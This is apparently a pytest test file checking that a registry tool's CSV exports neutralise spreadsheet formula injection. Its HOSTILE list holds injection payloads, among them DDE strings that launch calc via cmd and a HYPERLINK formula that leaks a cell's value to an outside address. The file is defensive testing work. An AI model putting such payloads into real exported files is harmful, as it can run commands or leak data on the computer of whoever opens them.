"""CSV that no spreadsheet computes with, and that still says what was there."""

import csv
import io
from pathlib import Path

import pytest

from registry import audit, auditing, exporting, review
from tatara import cli
from tatara.core.files import canonical_json
from tests.registry.cases import checked, evidence, new_version

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|calc", "%0A=1", "\ufeff=1", "\u200b=1",
    "\uff1d1+1", '=HYPERLINK("http://example.com/?"&A1,"look")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+",
    "-", "--1", "\0=1", '"=1', "'=1", "a;=1", 'a";=1;"', "a,=1", "a\r\n=1", "-1;=2", "-Infinity", "+49 3 1415",
]  # fmt: skip
FINE = ["-1", "-0.25", "+3", "1e-07", "-1.5e+10", "0", "a=1", "digits", "", "1-2", "schön ☃"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_begins_a_formula(cell: str) -> None:
    text = exporting.csv_text(["what", "next"], [[cell, -0.5]])
    (_, (found, number)) = read(text)
    assert found.lstrip(" \u00a0\u200b\ufeff")[:1] not in set("=+-@\t\r\n|%\uff1d")
    assert found.lstrip("'") == cell.replace("\0", "").lstrip("'")
    assert number == "-0.5"
    assert text.splitlines()[0] == '"what","next"'


@pytest.mark.parametrize("cell", HOSTILE)
def test_another_countrys_separator_begins_no_cell(cell: str) -> None:
    text = exporting.csv_text(["what"], [[cell]])
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert all(row[0][:1] not in set("=+-@\t") for row in rows if row)
    assert all(len(row) == 1 for row in rows)


@pytest.mark.parametrize("cell", FINE)
def test_numbers_and_names_stay_as_they_are(cell: str) -> None:
    assert read(exporting.csv_text(["what"], [[cell]]))[1:] == [[cell]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-1, "-1"), (-0.5, "-0.5"), (None, ""), (True, "True"), (12345678901234567890, "12345678901234567890")],
)
def test_values_are_written_out(value: object, cell: str) -> None:
    assert read(exporting.csv_text(["what"], [[value]]))[1:] == [[cell]]


def test_the_log_is_whole_and_harmless(store: Path, tmp_path: Path, monkeypatch) -> None:
    name, author = "=cmd|' C calc'!A0", "@SUM(1+1)"
    version = new_version(author, name)
    checked(evidence(version=version, name=name), user="=1+1")
    for text in HOSTILE:
        if text.strip("\0\r\n\t "):
            review.comment("bob", name, version, text)
    monkeypatch.setenv("TATARA_USER", "bob")
    assert cli.main(["review", "audit", "csv=log.csv"]) == 0
    with (tmp_path / "log.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    lines = audit.acts()[::-1]
    assert [row["digest"] for row in rows] == [line.digest for line in lines]
    assert [row["detail"] for row in rows] == [canonical_json(line.detail) for line in lines]
    assert {row["name"] for row in rows} == {"", f"'{name}"}
    assert not {cell[:1] for row in rows for cell in row.values()} & set("=+-@\t\r")
    assert auditing.as_csv() == (tmp_path / "log.csv").read_bytes().decode()


def test_the_list_is_written_too(store: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    name = "+colours"
    version = new_version("=author", name)
    checked(evidence(version=version, name=name))
    monkeypatch.setenv("TATARA_USER", "bob")
    assert cli.main(["review", "list", "all=true", "csv=versions.csv"]) == 0
    assert "versions.csv: 1 lines" in capsys.readouterr().out
    with (tmp_path / "versions.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["name"], row["version"], row["author"], row["state"]) == ("'+colours", "1", "'=author", "approved")
    assert int(row["passed"]) > 5
    assert row["answer"].startswith("Yes: approved by policy:classification")
